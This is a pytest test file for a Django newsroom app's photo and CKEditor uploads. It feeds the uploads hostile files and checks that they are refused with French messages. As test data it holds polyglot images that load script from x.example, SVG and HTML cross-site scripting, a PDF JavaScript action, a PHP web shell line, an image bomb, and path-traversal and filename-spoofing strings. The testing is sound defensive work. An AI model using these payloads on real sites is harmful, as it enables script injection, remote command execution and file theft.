"""Hostile files through the admin photo form and the CKEditor upload: all refused in French.

A valid image that also carries markup or code (a polyglot) is refused, not just cleaned.
Stored media are served as what they are (nosniff), and never from outside MEDIA_ROOT.
"""

import io
import random

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import Image

from photos.images import HIDDEN_CODE
from photos.models import Photo
from tests.factories import image_bytes, upload
from tests.photos.test_images import png_with_declared_size

pytestmark = pytest.mark.django_db


def gif_with_comment(comment: bytes) -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (40, 40), 3).save(buffer, format="GIF", comment=comment)
    return buffer.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    data = image_bytes("JPEG", (64, 64))
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return data[:2] + segment + data[2:]  # A COM segment right after SOI.


GIF_JS = (
    image_bytes("GIF", (40, 40))
    + b"/*"
    + b"*/=1;document.write('<script src=//x.example/a.js></script>');"
)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<<>>\n%%EOF"
PHP = b"<?php system($_GET['c']); ?>"
TRUNCATED = image_bytes("JPEG", (800, 600))[:1500]

# name, bytes, content type, what clean_upload answers.
HOSTILE = {
    "bomb": ("bombe.png", png_with_declared_size(100_000, 100_000), "image/png", "mégapixels"),
    "truncated": ("coupee.jpg", TRUNCATED, "image/jpeg", "endommagée"),
    "gif-js": ("anim.gif", GIF_JS, "image/gif", HIDDEN_CODE),
    "gif-comment": (
        "anim.gif",
        gif_with_comment(b"<script>alert(1)</script>"),
        "image/gif",
        HIDDEN_CODE,
    ),
    "jpeg-php": ("x.php.jpg", jpeg_with_comment(PHP), "image/jpeg", HIDDEN_CODE),
    "svg": ("dessin.svg", SVG, "image/svg+xml", "n’est pas une image"),
    "html": ("photo.jpg", HTML, "image/jpeg", "n’est pas une image"),
    "pdf": ("photo.pdf", PDF, "application/pdf", "n’est pas une image"),
    "empty": ("vide.jpg", b"", "image/jpeg", "vide"),
    "php": ("x.php.jpg", PHP, "image/jpeg", "n’est pas une image"),
}
# Django's ImageField answers first, in French, for what Pillow cannot even open.
DJANGO_INVALID = "Téléversez une image valide"
DJANGO_EMPTY = "Le fichier soumis est vide"


def escaped(message):
    return message.replace("'", "&#x27;")


@pytest.mark.parametrize("kind", HOSTILE)
def test_ckeditor_upload_refuses_hostile_files_in_french(client, journalist, kind):
    name, content, content_type, message = HOSTILE[kind]
    client.force_login(journalist)

    response = client.post(
        reverse("articles:editor-upload"), {"upload": upload(name, content, content_type)}
    )

    assert response.status_code == 400
    assert message in response.json()["error"]["message"]
    assert not default_storage.exists("editor")


@pytest.mark.parametrize("kind", HOSTILE)
def test_admin_photo_form_refuses_hostile_files_and_keeps_the_caption(client, journalist, kind):
    name, content, content_type, message = HOSTILE[kind]
    client.force_login(journalist)

    response = client.post(
        reverse("admin:photos_photo_add"),
        {
            "image": upload(name, content, content_type),
            "caption": "Légende tapée par Julie",
            "credit": "AFP",
            "alt_text": "Une vue du port",
        },
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert "Légende tapée par Julie" in html and "Une vue du port" in html
    assert escaped(message) in html or DJANGO_INVALID in html or DJANGO_EMPTY in html
    if message == HIDDEN_CODE:  # Valid images: only our rule can refuse them.
        assert escaped(message) in html
    assert not Photo.objects.exists()


def test_an_ordinary_photo_is_still_accepted_and_reencoded(client, journalist):
    client.force_login(journalist)
    response = client.post(
        reverse("articles:editor-upload"), {"upload": upload("port.gif", gif_with_comment(b"Port"))}
    )
    assert response.status_code == 200
    assert response.json()["url"].endswith(".png")


def test_a_stored_jpeg_is_served_as_a_jpeg_and_never_sniffed(client):
    name = default_storage.save("photos/port.jpg", ContentFile(image_bytes("JPEG", (64, 64))))

    response = client.get(f"/media/{name}")

    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


@pytest.mark.parametrize(
    "path",
    [
        "../secret.txt",
        "photos/../../secret.txt",
        "..%2Fsecret.txt",
        "%2e%2e/secret.txt",
        "photos/%2e%2e/%2e%2e/secret.txt",
        "/etc/passwd",
        "photos/port.jpg%00.txt",
        "%00",
    ],
)
def test_media_paths_cannot_leave_media_root(client, settings, path):
    secret = settings.MEDIA_ROOT.parent / "secret.txt"
    secret.write_text("mot de passe")
    default_storage.save("photos/port.jpg", ContentFile(image_bytes("JPEG", (64, 64))))

    response = client.get(f"/media/{path}")

    assert response.status_code == 404
    assert b"mot de passe" not in b"".join(getattr(response, "streaming_content", [b""]))


@pytest.mark.parametrize("fmt", ["GIF", "PNG", "WEBP"])
def test_a_polyglot_without_any_marker_is_refused_for_its_trailing_bytes(fmt):
    """GIF89a/*…*/=alert(1); holds no marker: the bytes after the image's end give it away."""
    from django.core.exceptions import ValidationError

    from photos.images import clean_upload

    classic = image_bytes(fmt, (40, 40)) + b"*/=alert(document.domain);//"
    with pytest.raises(ValidationError) as error:
        clean_upload(upload(f"anim.{fmt.lower()}", classic, f"image/{fmt.lower()}"))
    assert "données cachées après l’image" in error.value.messages[0]


def test_a_jpeg_with_data_after_its_end_is_cleaned_not_refused():
    """Phones store motion clips after the JPEG: re-encoding drops them."""
    from photos.images import clean_upload

    cleaned = clean_upload(upload("live.jpg", image_bytes("JPEG", (40, 40)) + b"MOTIONCLIP"))
    assert b"MOTIONCLIP" not in cleaned.content.read()


def test_a_noisy_photo_is_not_mistaken_for_hidden_code():
    """Compressed pixels look random: the markers are long enough never to match them."""
    from photos.images import clean_upload

    noise = Image.frombytes("RGB", (1000, 1000), random.Random(7).randbytes(3_000_000))
    buffer = io.BytesIO()
    noise.save(buffer, format="JPEG", quality=95)
    assert clean_upload(upload("bruit.jpg", buffer.getvalue())).width == 1000


# --- File names: one rule for the photo library and the editor --------------------------------

TOO_LONG = ["a" * 101 + ".jpg", "a" * 297 + ".jpg", "é" * 120 + ".jpg"]
# Django's form parser drops invisible characters from uploaded file names: what reaches us
# is the visible rest, the same for both uploads. The rule still refuses them for any caller.
HIDDEN = ["\u202egpj.exe.jpg", "photo\u2067gpj.jpg", "photo\u200b.jpg", "\ufeffphoto.jpg"]
GOOD_NAMES = ["Baie d'Anchorage — été 2025.jpg", "日本の港.jpg", "a" * 96 + ".jpg", "مرفأ.jpg"]


def post_photo(client, name):
    return client.post(
        reverse("admin:photos_photo_add"),
        {
            "image": upload(name),
            "caption": "Légende tapée par Julie",
            "credit": "AFP",
            "alt_text": "Une vue du port",
        },
    )


@pytest.mark.parametrize("name", TOO_LONG, ids=lambda name: str(len(name)))
def test_both_uploads_refuse_the_same_file_names_with_the_same_message(client, journalist, name):
    client.force_login(journalist)

    editor = client.post(reverse("articles:editor-upload"), {"upload": upload(name)})
    library = post_photo(client, name)

    assert editor.status_code == 400
    message = editor.json()["error"]["message"]
    assert "100 caractères au plus" in message
    assert library.status_code == 200
    html = library.content.decode()
    assert escaped(message) in html
    assert "Légende tapée par Julie" in html
    assert not Photo.objects.exists()
    assert not default_storage.exists("editor")


@pytest.mark.parametrize("name", HIDDEN, ids=ascii)
def test_invisible_characters_in_a_file_name_are_refused_in_french(name):
    from django.core.exceptions import ValidationError

    from photos.images import check_file_name, clean_upload

    for check in (check_file_name, lambda name: clean_upload(upload(name))):
        with pytest.raises(ValidationError) as refused:
            check(name)
        assert "caractères invisibles" in refused.value.messages[0]


@pytest.mark.parametrize("name", HIDDEN, ids=ascii)
def test_both_uploads_treat_names_with_invisible_characters_alike(client, journalist, name):
    client.force_login(journalist)

    editor = client.post(reverse("articles:editor-upload"), {"upload": upload(name)})
    library = post_photo(client, name)

    assert (editor.status_code, library.status_code) in {(200, 302), (400, 200)}
    if editor.status_code == 200:
        assert name not in editor.json()["url"]
        assert name not in Photo.objects.get().image.name


@pytest.mark.parametrize("name", GOOD_NAMES)
def test_both_uploads_accept_ordinary_names_in_any_script(client, journalist, name):
    client.force_login(journalist)

    assert (
        client.post(reverse("articles:editor-upload"), {"upload": upload(name)}).status_code == 200
    )
    assert post_photo(client, name).status_code == 302
    # Stored under a random name whatever it was called.
    assert Photo.objects.get().image.name.startswith("photos/")
    assert name not in Photo.objects.get().image.name
